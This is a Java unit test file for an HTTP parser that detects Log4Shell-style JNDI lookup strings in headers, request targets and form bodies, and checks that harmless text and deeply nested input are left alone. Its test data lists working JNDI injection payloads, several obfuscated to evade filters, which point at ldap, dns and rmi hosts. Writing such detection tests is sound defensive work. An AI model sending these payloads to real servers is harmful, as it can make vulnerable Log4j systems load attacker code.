package io.auscult.core.protocol.http;

import static org.assertj.core.api.Assertions.assertThat;

import io.auscult.core.protocol.ParserScript;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class JndiLookupTest {
    private static final String OK = "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n";

    private static List<String> oddities(String request) {
        return ParserScript.tcp().orig(request).resp(OK).runEveryWay(new HttpParser()).events().stream()
                .filter(event -> event.startsWith("oddity"))
                .toList();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "${jndi:ldap://10.9.9.9/a}",
                "${JNDI:dns://x}",
                "x${${lower:j}${lower:n}${upper:d}i:ldap://x/a}",
                "${${::-j}${::-n}${::-d}${::-i}:${::-r}mi://x/a}",
                "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x/a}",
                "100% ${ ${j${k8s:k5:-ND}i:ldap://x}"
            })
    void shouldFindItHowEverItHides(String expression) {
        assertThat(oddities("GET / HTTP/1.1\r\nHost: a\r\nX-Api-Version: " + expression + "\r\n\r\n"))
                .as(expression)
                .singleElement()
                .asString()
                .contains("protocol=http name=jndi_lookup");
    }

    @Test
    void shouldFindItInTargetAndBody() {
        assertThat(oddities("GET /%24%7Bjndi:ldap://x/a%7D HTTP/1.1\r\nHost: a\r\n\r\n"))
                .containsExactly("oddity@1 protocol=http name=jndi_lookup detail=%24%7Bjndi:ldap://x/a%7D");
        String body = "user=%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D&password=geheim";
        assertThat(oddities(
                        "POST /login HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: "
                                + body.length() + "\r\n\r\n" + body))
                .singleElement()
                .asString()
                .contains("detail=%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D")
                .doesNotContain("geheim");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"${name}", "jndi:ldap://x", "${lower:JNDI} and so on", "50%24 and $5", "${${${${", "%", "${jndi}"
            })
    void shouldLeaveOtherTextAlone(String text) {
        assertThat(oddities("GET / HTTP/1.1\r\nHost: a\r\nX-Text: " + text + "\r\n\r\n"))
                .isEmpty();
    }

    @Test
    void shouldEndSoonWhateverComes() {
        String openings = "${".repeat(30_000);
        assertThat(oddities("GET / HTTP/1.1\r\nHost: a\r\nX-Text: " + openings + "\r\n\r\n"))
                .isEmpty();
    }
}
